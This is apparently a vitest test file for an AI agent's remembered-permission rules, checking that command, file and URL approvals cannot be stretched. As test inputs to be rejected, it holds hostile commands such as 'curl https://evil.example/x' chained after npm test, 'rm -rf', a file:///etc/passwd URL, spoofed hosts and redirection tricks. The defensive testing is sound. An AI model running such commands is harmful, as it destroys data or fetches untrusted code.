import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { RememberedRule } from '../../../src/domain/remembered-rule.js';
import { PolicySchema } from '../../../src/policy/policy-file.js';
import {
  commandMatchesPrefix,
  fileRuleMatches,
  pipelineCoveredBy,
  rulesAllowing,
  urlRuleMatches,
  type RuleTarget,
} from '../../../src/policy/remembered-rules.js';
import { loadShellParser } from '../../../src/policy/shell-parser.js';
import { tempDir } from '../../helpers/temp-dirs.js';

beforeAll(async () => {
  await loadShellParser();
});

const at = '2026-01-01T00:00:00.000Z';
const person = { kind: 'person' } as const;
const mine = { proposer: person, now: new Date(at) };

describe('command prefix rules', () => {
  it('match token for token, never as a string prefix', () => {
    expect(commandMatchesPrefix(['npm', 'test'], ['npm', 'test'])).toBe(true);
    expect(commandMatchesPrefix(['npm', 'test', '--', '-u'], ['npm', 'test'])).toBe(true);
    expect(commandMatchesPrefix(['npm', 'testing'], ['npm', 'test'])).toBe(false);
    expect(commandMatchesPrefix(['npm'], ['npm', 'test'])).toBe(false);
    expect(commandMatchesPrefix(['/usr/bin/npm', 'test'], ['npm', 'test'])).toBe(false);
    expect(commandMatchesPrefix(['npm', 'run', 'test'], ['npm', 'test'])).toBe(false);
    expect(commandMatchesPrefix(['git', 'status;rm', '-rf', '/'], ['git', 'status'])).toBe(false);
    expect(commandMatchesPrefix(['anything'], [])).toBe(false);
  });

  it('cover a pipeline only when every command in it is covered, inside the rule root', () => {
    const root = tempDir();
    fs.mkdirSync(path.join(root, 'proj', 'sub'), { recursive: true });
    const rules: RememberedRule[] = [
      {
        id: 'r1',
        kind: 'command',
        prefix: ['npm', 'test'],
        root: path.join(root, 'proj'),
        maxRisk: 'MEDIUM',
        createdAt: at,
        proposer: person,
      },
      {
        id: 'r2',
        kind: 'command',
        prefix: ['tee', 'out.txt'],
        root: path.join(root, 'proj'),
        maxRisk: 'MEDIUM',
        createdAt: at,
        proposer: person,
      },
    ];
    const cwd = path.join(root, 'proj', 'sub');
    expect(pipelineCoveredBy([['npm', 'test']], cwd, rules)?.map((rule) => rule.id)).toEqual(['r1']);
    expect(
      pipelineCoveredBy(
        [
          ['npm', 'test'],
          ['tee', 'out.txt'],
        ],
        cwd,
        rules,
      )?.map((rule) => rule.id),
    ).toEqual(['r1', 'r2']);
    expect(
      pipelineCoveredBy(
        [
          ['npm', 'test'],
          ['curl', 'evil.sh'],
        ],
        cwd,
        rules,
      ),
    ).toBeNull();
    expect(pipelineCoveredBy([], cwd, rules)).toBeNull();
    // Outside the rule's root the same command asks again.
    expect(pipelineCoveredBy([['npm', 'test']], root, rules)).toBeNull();
  });

  it('follow a symlinked working directory to where it really is', () => {
    const base = tempDir();
    fs.mkdirSync(path.join(base, 'proj'));
    fs.mkdirSync(path.join(base, 'elsewhere'));
    fs.symlinkSync(path.join(base, 'elsewhere'), path.join(base, 'proj', 'link'));
    const rules: RememberedRule[] = [
      { id: 'r1', kind: 'command', prefix: ['make'], root: path.join(base, 'proj'), maxRisk: 'LOW', createdAt: at, proposer: person },
    ];
    expect(pipelineCoveredBy([['make']], path.join(base, 'proj'), rules)).not.toBeNull();
    expect(pipelineCoveredBy([['make']], path.join(base, 'proj', 'link'), rules)).toBeNull();
  });
});

describe('file glob rules', () => {
  it('match paths under their own root by the glob, on real paths', () => {
    const base = tempDir();
    const root = path.join(base, 'ws');
    const dataDir = path.join(base, 'data');
    fs.mkdirSync(path.join(root, 'src', 'deep'), { recursive: true });
    fs.mkdirSync(path.join(base, 'outside'));
    fs.mkdirSync(dataDir);
    fs.symlinkSync(path.join(base, 'outside'), path.join(root, 'src', 'escape'));
    const rule: Extract<RememberedRule, { kind: 'file' }> = {
      id: 'f1',
      kind: 'file',
      root,
      glob: 'src/**',
      maxRisk: 'MEDIUM',
      createdAt: at,
      proposer: person,
    };
    expect(fileRuleMatches(rule, path.join(root, 'src', 'a.ts'), [root], dataDir)).toBe(true);
    expect(fileRuleMatches(rule, 'src/deep/b.ts', [root], dataDir)).toBe(true);
    expect(fileRuleMatches(rule, path.join(root, 'README.md'), [root], dataDir)).toBe(false);
    expect(fileRuleMatches(rule, path.join(root, 'src', '..', 'README.md'), [root], dataDir)).toBe(false);
    // Through a symlink out of the root the guard refuses, so the rule never applies.
    expect(fileRuleMatches(rule, path.join(root, 'src', 'escape', 'x.ts'), [root], dataDir)).toBe(false);
    const exact: Extract<RememberedRule, { kind: 'file' }> = {
      id: 'f2',
      kind: 'file',
      root,
      glob: 'notes/todo\\[1\\].md',
      maxRisk: 'MEDIUM',
      createdAt: at,
      proposer: person,
    };
    expect(fileRuleMatches(exact, path.join(root, 'notes', 'todo[1].md'), [root], dataDir)).toBe(true);
    expect(fileRuleMatches(exact, path.join(root, 'notes', 'todo1.md'), [root], dataDir)).toBe(false);
  });

  it('stop at the risk the rule was made for: a secret file under the glob still asks', () => {
    const base = tempDir();
    const root = path.join(base, 'ws');
    fs.mkdirSync(root);
    const rules: RememberedRule[] = [{ id: 'f1', kind: 'file', root, glob: '**', maxRisk: 'MEDIUM', createdAt: at, proposer: person }];
    expect(
      rulesAllowing({ kind: 'file', path: path.join(root, 'a.txt') }, 'MEDIUM', rules, [root], path.join(base, 'data'), mine),
    ).toHaveLength(1);
    expect(rulesAllowing({ kind: 'file', path: path.join(root, '.env') }, 'HIGH', rules, [root], path.join(base, 'data'), mine)).toBeNull();
    expect(
      rulesAllowing({ kind: 'file', path: path.join(root, 'a.txt') }, 'CRITICAL', rules, [root], path.join(base, 'data'), mine),
    ).toBeNull();
  });
});

describe('URL host rules', () => {
  const rule: Extract<RememberedRule, { kind: 'url' }> = {
    id: 'u1',
    kind: 'url',
    host: 'example.com',
    maxRisk: 'HIGH',
    createdAt: at,
    proposer: person,
  };
  it('match the exact host only, whatever the case, path or port', () => {
    expect(urlRuleMatches(rule, 'https://example.com/a?b')).toBe(true);
    expect(urlRuleMatches(rule, 'https://EXAMPLE.com.:8443/')).toBe(true);
    expect(urlRuleMatches(rule, 'https://api.example.com/')).toBe(false);
    expect(urlRuleMatches(rule, 'https://example.com.evil.net/')).toBe(false);
    expect(urlRuleMatches(rule, 'https://evil.net/?u=https://example.com')).toBe(false);
    expect(urlRuleMatches(rule, 'https://example.com@evil.net/')).toBe(false);
    expect(urlRuleMatches(rule, 'file:///etc/passwd')).toBe(false);
    expect(urlRuleMatches(rule, 'not a url')).toBe(false);
  });
});

describe('the policy file', () => {
  it('accepts remembered rules and refuses ones that reach outside their root or name a wildcard host', () => {
    const ok = PolicySchema.safeParse({
      remembered: [{ id: 'f1', kind: 'file', root: '/ws', glob: 'src/**', maxRisk: 'MEDIUM', createdAt: at, proposer: person }],
    });
    expect(ok.success).toBe(true);
    expect(PolicySchema.parse({}).remembered).toEqual([]);
    expect(
      PolicySchema.safeParse({
        remembered: [{ id: 'f1', kind: 'file', root: '/ws', glob: '../**', maxRisk: 'MEDIUM', createdAt: at, proposer: person }],
      }).success,
    ).toBe(false);
    expect(
      PolicySchema.safeParse({
        remembered: [{ id: 'f1', kind: 'file', root: 'ws', glob: 'a', maxRisk: 'MEDIUM', createdAt: at, proposer: person }],
      }).success,
    ).toBe(false);
    expect(
      PolicySchema.safeParse({
        remembered: [{ id: 'u1', kind: 'url', host: '*.example.com', maxRisk: 'LOW', createdAt: at, proposer: person }],
      }).success,
    ).toBe(false);
    expect(
      PolicySchema.safeParse({
        remembered: [{ id: 'c1', kind: 'command', prefix: [], root: '/ws', maxRisk: 'LOW', createdAt: at, proposer: person }],
      }).success,
    ).toBe(false);
    expect(
      PolicySchema.safeParse({
        remembered: [{ id: 'c1', kind: 'command', prefix: ['rm'], root: '/ws', maxRisk: 'CRITICAL', createdAt: at, proposer: person }],
      }).success,
    ).toBe(false);
  });
});

describe('command rules on runCommand steps', () => {
  it('cover a shell line only when every command in it, nested ones too, is covered inside the rule root', async () => {
    const { commandRuleTarget } = await import('../../../src/actions/run-command.js');
    const root = tempDir();
    fs.mkdirSync(path.join(root, 'proj'));
    const rules: RememberedRule[] = [
      {
        id: 'c1',
        kind: 'command',
        prefix: ['npm', 'test'],
        root: path.join(root, 'proj'),
        maxRisk: 'MEDIUM',
        createdAt: at,
        proposer: person,
      },
      {
        id: 'c2',
        kind: 'command',
        prefix: ['tee', 'log.txt'],
        root: path.join(root, 'proj'),
        maxRisk: 'MEDIUM',
        createdAt: at,
        proposer: person,
      },
    ];
    const target = (command: string, cwd = 'proj') => commandRuleTarget({ command, cwd } as never, [root]);
    const allows = (command: string, cwd?: string) => {
      const resolved = target(command, cwd);
      return resolved ? rulesAllowing(resolved, 'MEDIUM', rules, [root], path.join(root, 'data'), mine) !== null : false;
    };
    expect(allows('npm test')).toBe(true);
    expect(allows('npm test -- --watch=false | tee log.txt')).toBe(true);
    expect(allows('npm test && curl https://evil.example/x')).toBe(false);
    expect(allows('npm test $(curl https://evil.example/x)')).toBe(false);
    expect(allows('npm testing')).toBe(false);
    expect(allows('npm test', '.')).toBe(false);
    // A line whose programs are not all named is never covered, whatever rules exist for its words.
    const wrapperRules: RememberedRule[] = [
      ...rules,
      {
        id: 'c3',
        kind: 'command',
        prefix: ['timeout', '60'],
        root: path.join(root, 'proj'),
        maxRisk: 'MEDIUM',
        createdAt: at,
        proposer: person,
      },
      { id: 'c4', kind: 'command', prefix: ['busybox'], root: path.join(root, 'proj'), maxRisk: 'MEDIUM', createdAt: at, proposer: person },
      { id: 'c5', kind: 'command', prefix: ['nice'], root: path.join(root, 'proj'), maxRisk: 'MEDIUM', createdAt: at, proposer: person },
      { id: 'c6', kind: 'command', prefix: ['sh'], root: path.join(root, 'proj'), maxRisk: 'MEDIUM', createdAt: at, proposer: person },
      { id: 'c7', kind: 'command', prefix: ['echo'], root: path.join(root, 'proj'), maxRisk: 'MEDIUM', createdAt: at, proposer: person },
    ];
    for (const command of [
      'timeout 60 rm -rf .',
      "busybox sh -c 'rm x'",
      'nice rm x',
      'echo rm x | sh',
      "sh -c 'npm test'",
      'npm test | sh',
      'X=npm; $X test',
      'npm test; f() { :; }',
    ]) {
      expect(target(command), command).toBeNull();
      const resolved = commandRuleTarget({ command, cwd: 'proj' } as never, [root]);
      expect(resolved ? rulesAllowing(resolved, 'MEDIUM', wrapperRules, [root], path.join(root, 'data'), mine) : null, command).toBeNull();
    }
    expect(commandRuleTarget({ argv: ['timeout', '60', 'rm', '-rf', '.'], cwd: 'proj' } as never, [root])).toBeNull();
    expect(commandRuleTarget({ command: 'npm test', cwd: 'proj', env: { PATH: '/tmp' } } as never, [root])).toBeNull();
    // A word whose value is unknown ends what a rule prefix may match.
    expect(target('tee $X log.txt')).toEqual({ kind: 'command', pipeline: [['tee']], cwd: path.join(root, 'proj') });
    expect(allows('tee $X')).toBe(false);
    // `npm $X` could be `npm exec …`: no target at all.
    expect(target('npm $X')).toBeNull();
    expect(allows('npm $(echo test)')).toBe(false);
    expect(allows('if true; then npm test; fi')).toBe(false);
    expect(commandRuleTarget({ argv: ['npm', 'test'], cwd: 'proj' } as never, [root])).toEqual({
      kind: 'command',
      pipeline: [['npm', 'test']],
      cwd: path.join(root, 'proj'),
    });
    expect(commandRuleTarget({ argv: ['npm', 'test'] } as never, [])).toBeNull();
  });
});

describe('command rules and what a line writes', () => {
  it('never cover a line that writes a file by redirection, only one that writes to /dev/null', async () => {
    const { commandRuleTarget } = await import('../../../src/actions/run-command.js');
    const root = tempDir();
    const rules: RememberedRule[] = [
      { id: 'ls', kind: 'command', prefix: ['ls'], root, maxRisk: 'HIGH', createdAt: at, proposer: person },
      { id: 'cat', kind: 'command', prefix: ['cat'], root, maxRisk: 'HIGH', createdAt: at, proposer: person },
    ];
    const allows = (command: string) => {
      const target = commandRuleTarget({ command } as never, [root]);
      return target ? rulesAllowing(target, 'HIGH', rules, [root], path.join(root, 'data'), mine) !== null : false;
    };
    for (const command of [
      'ls > victim.txt',
      'ls >> victim.txt',
      'ls >| victim.txt',
      'ls &> victim.txt',
      'ls &>> victim.txt',
      'ls 2> victim.txt',
      'ls 3> victim.txt',
      'ls >&victim.txt',
      '>victim.txt ls',
      '{ ls; } > victim.txt',
      '(ls) > victim.txt',
      'if true; then ls; fi > victim.txt',
      'ls | cat > victim.txt',
      'ls > $F',
      'ls > "$(cat name)"',
      'ls > /dev/null > victim.txt',
      'ls > /dev/../workspace/victim.txt',
      'ls > /dev/stdout',
      'cat <<EOF > victim.txt\nx\nEOF',
      'ls <>victim.txt',
      // dash has no `[[`: it reads `>` there as a redirection that truncates the file.
      'ls; [[ a > victim.txt ]]',
      // ash and dash read `((…))` as subshells: `>` there writes the file.
      'ls; ((a > victim))',
    ]) {
      expect(allows(command), command).toBe(false);
    }
    for (const command of [
      'ls',
      'ls > /dev/null',
      'ls 2>/dev/null',
      'ls >/dev/null 2>&1',
      'ls 2>&1 | cat',
      'ls >&2',
      'ls 3>&-',
      'cat < in.txt',
      'cat <<< x',
    ]) {
      expect(allows(command), command).toBe(true);
    }
  });

  it('never let a rule for a program that starts others cover the program it starts', () => {
    const root = tempDir();
    const slipped: RememberedRule = {
      id: 'l32',
      kind: 'command',
      prefix: ['linux32'],
      root,
      maxRisk: 'HIGH',
      createdAt: at,
      proposer: person,
    };
    expect(pipelineCoveredBy([['linux32', 'rm', '-r', 'victim.txt']], root, [slipped])).toBeNull();
    expect(pipelineCoveredBy([['linux32', 'uname', '-m']], root, [slipped])).toBeNull();
    expect(PolicySchema.safeParse({ remembered: [slipped] }).success).toBe(false);
  });
});

describe('rules that arrive through setPolicy or policy.json', () => {
  const commandRule = (prefix: string[]) => ({
    id: 'c1',
    kind: 'command',
    prefix,
    root: '/ws',
    maxRisk: 'HIGH',
    createdAt: at,
    proposer: person,
  });

  it.each([
    [['timeout', '60'], 'timeout'],
    [['busybox', 'sh', '-c'], 'busybox'],
    [['nice'], 'nice'],
    [['sudo', 'make'], 'sudo'],
    [['bash'], 'bash'],
    [['python3', 'x.py'], 'python3'],
    [['node'], 'node'],
    [['xargs', '-0'], 'xargs'],
    [['find', '.', '-exec'], '-exec'],
    [['git', '-c', 'alias.x=!sh'], '-c'],
    [['$PROG'], '$PROG'],
  ])('refuse a command rule whose prefix is %j, naming "%s"', (prefix, word) => {
    const parsed = PolicySchema.safeParse({ remembered: [commandRule(prefix)] });
    expect(parsed.success).toBe(false);
    expect(JSON.stringify(parsed.error?.issues)).toContain(`\\"${word}\\"`);
  });

  it('refuse two rules with one id', () => {
    const parsed = PolicySchema.safeParse({ remembered: [commandRule(['make']), commandRule(['cargo', 'test'])] });
    expect(parsed.success).toBe(false);
    expect(JSON.stringify(parsed.error?.issues)).toContain('\\"c1\\" appears more than once');
  });

  it('refuse a rule whose expiry is not a date, or whose proposer is malformed', () => {
    expect(PolicySchema.safeParse({ remembered: [{ ...commandRule(['make']), expiresAt: 'tomorrow' }] }).success).toBe(false);
    expect(PolicySchema.safeParse({ remembered: [{ ...commandRule(['make']), expiresAt: '2026-02-01T00:00:00Z' }] }).success).toBe(true);
    expect(PolicySchema.safeParse({ remembered: [{ ...commandRule(['make']), proposer: { kind: 'agent' } }] }).success).toBe(false);
    expect(PolicySchema.safeParse({ remembered: [{ ...commandRule(['make']), proposer: { kind: 'agent', agentId: '' } }] }).success).toBe(
      false,
    );
    expect(PolicySchema.safeParse({ remembered: [{ ...commandRule(['make']), proposer: { kind: 'anyone' } }] }).success).toBe(false);
  });

  it("load a rule saved before scoping as the person's own, flagged, never as any agent's", () => {
    const old = { id: 'old', kind: 'command', prefix: ['make'], root: '/ws', maxRisk: 'HIGH', createdAt: at };
    const parsed = PolicySchema.parse({ remembered: [old] });
    expect(parsed.remembered[0]).toEqual({ ...old, proposer: { kind: 'person' }, madeBeforeScoping: true });
    // Saved again, it stays what it was read as.
    expect(PolicySchema.parse(JSON.parse(JSON.stringify(parsed))).remembered[0]).toEqual(parsed.remembered[0]);
  });
});

describe('rule scope when a step is weighed', () => {
  const base = tempDir();
  const root = path.join(base, 'ws');
  fs.mkdirSync(root);
  const agentA = { kind: 'agent', agentId: 'agent-a' } as const;
  const rules: RememberedRule[] = [
    { id: 'a1', kind: 'command', prefix: ['make', 'test'], root, maxRisk: 'HIGH', createdAt: at, proposer: agentA },
  ];
  const target: RuleTarget = { kind: 'command', pipeline: [['make', 'test']], cwd: root };
  const weigh = (proposer: Parameters<typeof rulesAllowing>[5]['proposer'], now = new Date(at), list = rules) =>
    rulesAllowing(target, 'HIGH', list, [root], path.join(base, 'data'), { proposer, now });

  it("cover only the agent the rule was made for: agent B's identical step, the person's and an unnamed agent's still ask", () => {
    expect(weigh(agentA)?.map((rule) => rule.id)).toEqual(['a1']);
    expect(weigh({ kind: 'agent', agentId: 'agent-b' })).toBeNull();
    expect(weigh({ kind: 'agent', agentId: 'Agent-A' })).toBeNull();
    expect(weigh({ kind: 'person' })).toBeNull();
    expect(weigh(null)).toBeNull();
  });

  it('never match once expired', () => {
    const expiring: RememberedRule[] = [{ ...rules[0]!, expiresAt: '2026-01-01T01:00:00.000Z' }];
    expect(weigh(agentA, new Date('2026-01-01T00:59:59.000Z'), expiring)).not.toBeNull();
    expect(weigh(agentA, new Date('2026-01-01T01:00:00.000Z'), expiring)).toBeNull();
    expect(weigh(agentA, new Date('2027-01-01T00:00:00.000Z'), expiring)).toBeNull();
  });

  it('refuse a wrapper rule that slipped past the schema, and a covered command whose words make it a runner', () => {
    const slipped: RememberedRule[] = [
      { id: 'w1', kind: 'command', prefix: ['timeout', '60'], root, maxRisk: 'HIGH', createdAt: at, proposer: agentA },
    ];
    expect(
      rulesAllowing(
        { kind: 'command', pipeline: [['timeout', '60', 'rm', '-rf', '.']], cwd: root },
        'HIGH',
        slipped,
        [root],
        path.join(base, 'data'),
        { proposer: agentA, now: new Date(at) },
      ),
    ).toBeNull();
    const findRule: RememberedRule[] = [
      { id: 'f1', kind: 'command', prefix: ['find', '.'], root, maxRisk: 'HIGH', createdAt: at, proposer: agentA },
    ];
    const find = (argv: string[]) =>
      rulesAllowing({ kind: 'command', pipeline: [argv], cwd: root }, 'HIGH', findRule, [root], path.join(base, 'data'), {
        proposer: agentA,
        now: new Date(at),
      });
    expect(find(['find', '.', '-name', '*.ts'])).not.toBeNull();
    expect(find(['find', '.', '-exec', 'rm', '{}', '+'])).toBeNull();
    expect(find(['find', '.', '-delete'])).toBeNull();
  });

  it('give no command target to a step that sets env, asks for the network or sees secrets', async () => {
    const { commandRuleTarget } = await import('../../../src/actions/run-command.js');
    expect(commandRuleTarget({ argv: ['make', 'test'], env: { NODE_OPTIONS: '--require /tmp/x.js' } } as never, [root])).toBeNull();
    expect(commandRuleTarget({ argv: ['make', 'test'], network: 'allowlist' } as never, [root])).toBeNull();
    expect(commandRuleTarget({ argv: ['make', 'test'], allowSecrets: ['.env'] } as never, [root])).toBeNull();
    expect(commandRuleTarget({ argv: ['make', 'test'], env: {} } as never, [root])).not.toBeNull();
  });
});
